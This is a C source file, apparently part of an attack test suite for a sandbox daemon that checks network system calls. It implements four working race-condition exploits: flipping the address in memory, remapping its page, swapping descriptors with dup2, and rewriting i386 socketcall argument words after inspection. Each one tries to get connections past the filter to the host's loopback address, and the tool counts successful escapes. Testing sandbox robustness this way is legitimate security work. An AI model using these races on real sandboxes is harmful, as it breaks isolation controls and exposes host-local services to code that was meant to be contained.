// Races with the daemon's look at a call.
//
//   race sockaddr|munmap|dup2|words SECONDS MACHINE PORT
//
// PORT is the server's on MACHINE and the logger's on the host's 127.0.0.1.
//   sockaddr  a thread flips the address between the two while another connects
//   munmap    a thread unmaps and maps the page of the address
//   dup2      a connect of a unix socket, which the daemon lets run, finds a host socket on its
//             descriptor and 127.0.0.1 in its address
//   words     the same by the words of a socketcall (i386), which lie in memory: descriptor, flags
//             and address of a connect and of a send are exchanged once the daemon has seen them
// Prints: tries N wins M. A win is a call that the kernel ran with what was exchanged.
#include <pthread.h>
#include <sys/mman.h>

#include "attack.h"

static struct sockaddr_in* address;
static struct sockaddr_in outside, loopback;
static volatile int over;
static volatile int slot = -1, unix_socket = -1, host_socket = -1;

static void* flip_address(void* unused) {
  (void)unused;
  while (!over) {
    *(volatile uint32_t*)&address->sin_addr.s_addr = loopback.sin_addr.s_addr;
    for (volatile int i = 0; i < 200; ++i) {
    }
    *(volatile uint32_t*)&address->sin_addr.s_addr = outside.sin_addr.s_addr;
  }
  return NULL;
}

static void* unmap_address(void* unused) {
  (void)unused;
  while (!over) {
    munmap(address, 4096);
    struct sockaddr_in* again =
        mmap(address, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    *again = loopback;
    *again = outside;
  }
  return NULL;
}

// A connect with AF_UNSPEC dissolves, the next one with 127.0.0.1 would connect.
static void* exchange(void* unused) {
  (void)unused;
  unsigned turn = 0;
  while (!over) {
    struct sockaddr_in name = loopback;
    if (turn++ % 2 == 0) name.sin_family = AF_UNSPEC;
    dup2(host_socket, slot);
    memcpy(address, &name, sizeof name);
    for (volatile int i = 0; i < 2000; ++i) {
    }
    dup2(unix_socket, slot);
    memset(address, 0, sizeof name);
    address->sin_family = AF_UNIX;
    for (volatile int i = 0; i < 2000; ++i) {
    }
  }
  return NULL;
}

static int fresh_host_socket(void) {
  int fd = tcp_socket(AF_INET);
  if (do_connect(fd, &outside, sizeof outside) < 0 || is_inside(fd)) {
    fprintf(stderr, "no host socket to race with\n");
    exit(3);
  }
  fcntl(fd, F_SETFL, O_NONBLOCK);
  return fd;
}

static void by_connect(double seconds, void* (*other)(void*)) {
  pthread_t thread;
  long tries = 0, wins = 0;
  struct linger reset = {1, 0};
  pthread_create(&thread, NULL, other, NULL);
  for (double end = now() + seconds; now() < end; ++tries) {
    int fd = tcp_socket(AF_INET);
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
    if (do_connect(fd, address, sizeof *address) == 0 && !is_inside(fd)) ++wins;
    close(fd);
  }
  over = 1;
  pthread_join(thread, NULL);
  printf("tries %ld wins %ld\n", tries, wins);
}

static void by_dup2(double seconds) {
  pthread_t thread;
  long tries = 0, wins = 0;
  unix_socket = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  host_socket = fresh_host_socket();
  slot = dup(unix_socket);
  memset(address, 0, sizeof *address);
  address->sin_family = AF_UNIX;
  pthread_create(&thread, NULL, exchange, NULL);
  for (double end = now() + seconds; now() < end; ++tries) {
    do_connect(slot, address, sizeof *address);
    struct tcp_info info = {0};
    socklen_t size = sizeof info;
    getsockopt(host_socket, SOL_TCP, TCP_INFO, &info, &size);
    if (info.tcpi_state == TCP_ESTABLISHED) continue;
    // Dissolved: some tries for it to connect to 127.0.0.1, then another one.
    if (++wins % 100 != 0) continue;
    int next = fresh_host_socket();
    dup2(next, host_socket);
    close(next);
  }
  over = 1;
  pthread_join(thread, NULL);
  printf("tries %ld wins %ld\n", tries, wins);
}

#ifdef __i386__
static volatile long connect_words[6], send_words[6];

static void* exchange_words(void* unused) {
  (void)unused;
  unsigned turn = 0;
  while (!over) {
    struct sockaddr_in name = loopback;
    if (turn++ % 2 == 0) name.sin_family = AF_UNSPEC;
    memcpy(address, &name, sizeof name);
    connect_words[0] = send_words[0] = host_socket;
    send_words[3] = MSG_FASTOPEN | MSG_NOSIGNAL;
    for (volatile int i = 0; i < 2000; ++i) {
    }
    connect_words[0] = send_words[0] = unix_socket;
    send_words[3] = MSG_NOSIGNAL;
    address->sin_family = AF_UNIX;
    for (volatile int i = 0; i < 2000; ++i) {
    }
  }
  return NULL;
}

static void by_words(double seconds) {
  enum { kConnect = 3, kSendto = 11 };
  pthread_t thread;
  long tries = 0, wins = 0;
  unix_socket = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  host_socket = fresh_host_socket();
  const long to_connect[6] = {unix_socket, (long)address, sizeof *address};
  const long to_send[6] = {unix_socket, (long)"x", 1, 0, (long)address, sizeof *address};
  for (int i = 0; i < 6; ++i) {
    connect_words[i] = to_connect[i];
    send_words[i] = to_send[i];
  }
  pthread_create(&thread, NULL, exchange_words, NULL);
  for (double end = now() + seconds; now() < end; ++tries) {
    syscall(SYS_socketcall, kConnect, connect_words);
    struct tcp_info info = {0};
    socklen_t size = sizeof info;
    getsockopt(host_socket, SOL_TCP, TCP_INFO, &info, &size);
    if (info.tcpi_state == TCP_ESTABLISHED) continue;
    // Dissolved: some tries for it to reach 127.0.0.1, then another one.
    for (int i = 0; i < 10; ++i) syscall(SYS_socketcall, kSendto, send_words);
    if (++wins % 100 != 0) continue;
    int next = fresh_host_socket();
    dup2(next, host_socket);
    close(next);
  }
  over = 1;
  pthread_join(thread, NULL);
  printf("tries %ld wins %ld\n", tries, wins);
}
#endif

int main(int argc, char** argv) {
  usage_unless(argc == 5, "race sockaddr|munmap|dup2|words SECONDS MACHINE PORT");
  const double seconds = atof(argv[2]);
  outside = v4(argv[3], atoi(argv[4]));
  loopback = v4("127.0.0.1", atoi(argv[4]));
  address = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  *address = outside;
  if (strcmp(argv[1], "sockaddr") == 0) by_connect(seconds, flip_address);
  if (strcmp(argv[1], "munmap") == 0) by_connect(seconds, unmap_address);
  if (strcmp(argv[1], "dup2") == 0) by_dup2(seconds);
#ifdef __i386__
  if (strcmp(argv[1], "words") == 0) by_words(seconds);
#endif
  return 0;
}
